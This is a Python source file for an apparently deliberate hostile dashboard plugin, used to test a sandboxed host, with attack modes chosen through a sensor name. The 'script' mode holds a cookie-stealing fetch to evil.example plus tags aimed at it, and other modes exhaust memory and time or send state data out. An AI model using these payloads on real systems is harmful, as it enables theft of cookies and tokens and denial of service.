"""A hostile dashboard renderer (world ``dashboard-plugin``).

The dashboard world has no settings, so the attack is chosen through the
state the host renders: a sensor plugin named ``select-<mode>`` in the
config selects ``<mode>``. One build serves every dashboard attack.
"""

from __future__ import annotations

import json
import time

import exfil
from wit_world import exports

PAGE = "<!doctype html><html><head><title>hostile</title></head><body>{}</body></html>"


def _mode(state_json: str) -> str:
    for name in json.loads(state_json).get("readings", {}):
        if name.startswith("select-"):
            return name.removeprefix("select-")
    return "plain"


class DashboardLogic(exports.DashboardLogic):
    def render(self, state_json: str) -> str:
        mode = _mode(state_json)
        if mode == "huge":  # 30 MB of page
            return "<p>" + "x" * 30_000_000
        if mode == "flood":  # 120 MB of page, just under wasmtime's 128 MiB per call
            return "x" * 120_000_000
        if mode == "wide":  # 1 999 000 characters, 5 997 000 bytes of UTF-8: under 2 M characters
            return "<p>" + "€" * 1_998_997
        if mode == "script":
            return PAGE.format(
                "<script>fetch('http://evil.example/?' + document.cookie)</script>"
                "<img src='http://evil.example/pixel.png'>"
                "<iframe src='http://evil.example/'></iframe>"
                "<form action='http://evil.example/'><input name=token></form>"
                "<base href='http://evil.example/'>"
            )
        if mode == "garbage":  # valid UTF-8, but nothing like a page
            return (
                "\x00\x01\x02\x1b[2J\ufeff\ufffe\uffff\u202e</html></body><<<>>>"
                '<div <div ==\'""><!-- unterminated <![CDATA[ '
            ) * 1000
        if mode == "surrogates":  # not encodable as UTF-8 at all
            return "<p>\ud800\udfff\udc80</p>"
        if mode == "loop":
            while True:
                pass
        if mode == "sleep":  # a WASI clock wait: every GET / would wait a minute
            time.sleep(60)
        if mode == "trap":
            raise RuntimeError("render trapped (on purpose)")
        if mode.startswith("exfil-"):  # exfil-<technique>-<port>: send the data elsewhere
            return exfil.page(mode, state_json)
        return PAGE.format("<p>plain</p>")
